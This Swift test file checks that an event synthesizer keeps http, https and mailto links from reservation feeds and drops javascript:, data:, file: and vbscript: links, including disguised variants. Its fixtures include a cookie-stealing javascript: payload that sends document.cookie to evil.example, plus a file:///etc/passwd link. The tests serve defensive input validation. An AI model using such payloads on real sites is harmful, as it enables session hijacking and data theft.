import Diagnostics
import EventModel
import Foundation
import Reservations
import Testing

@testable import EventSynthesis

@Suite("Links a feed may carry")
struct LinkTests {
    @Test(
        "http, https and mailto are kept; javascript:, data:, file:, vbscript:, none at all, and such schemes disguised by case, control characters, tabs and line breaks are not",
        arguments: [
            ("https://airline.example.com/manage/K7P2QX", true), ("HTTP://example.com", true), ("  https://example.com ", true),
            ("mailto:desk@hotel.example", true), ("javascript:alert(1)", false), ("JavaScript:alert(1)", false),
            (" \u{1}javascript:alert(1)", false), ("java\tscript:alert(1)", false), ("java\nscript:alert(1)", false),
            ("data:text/html,<script>alert(1)</script>", false), ("file:///etc/passwd", false), ("vbscript:msgbox", false),
            ("/manage/K7P2QX", false), ("example.com/manage", false), ("", false), (":", false), ("https", false),
            ("ht\ttps://example.com", true), ("h\u{0}ttps://example.com", false),
        ])
    func schemes(link: String, kept: Bool) {
        #expect(WebLink.isKept(link) == kept, "\(link.debugDescription)")
    }

    @Test("a booking's javascript: link and a data: check-in link are left out of the event, its notes and its alarm, each with a warning naming its field; an https link stays")
    func leftOut() throws {
        let flight = #"""
            {"type": "flight", "reservationNumber": "K7P2QX", "url": "javascript:fetch('https://evil.example/'+document.cookie)",
             "checkInAction": {"url": "data:text/html;base64,PHNjcmlwdD4=", "validFrom": "2030-06-14T17:55:00-07:00"},
             "airline": {"iataCode": "AY"}, "flightNumber": "20",
             "departure": {"airport": {"iataCode": "SFO"}, "time": "2030-06-15T17:55:00-07:00[America/Los_Angeles]"}}
            """#
        let result = EventSynthesizer().synthesize(try Fixtures.reservation(flight))
        let event = try #require(result.event)
        #expect(event.url == nil)
        #expect(!(event.notes ?? "").contains("javascript") && !(event.notes ?? "").contains("data:"), "\(event.notes ?? "")")
        #expect(event.alarms.allSatisfy { $0.url == nil })
        let warnings = result.diagnostics.filter { $0.code == .linkNotKept }
        #expect(warnings.map(\.field) == [.url, .checkInURL], "\(result.diagnostics)")
        #expect(warnings.first?.message.description.contains("is not an http, https or mailto link; it is left out of the event") == true)

        let honest = flight.replacingOccurrences(of: "javascript:fetch('https://evil.example/'+document.cookie)", with: "https://airline.example.com/manage/K7P2QX")
        let kept = EventSynthesizer().synthesize(try Fixtures.reservation(honest))
        #expect(kept.event?.url == "https://airline.example.com/manage/K7P2QX")
        #expect(kept.diagnostics.filter { $0.code == .linkNotKept }.map(\.field) == [.checkInURL])
    }
}
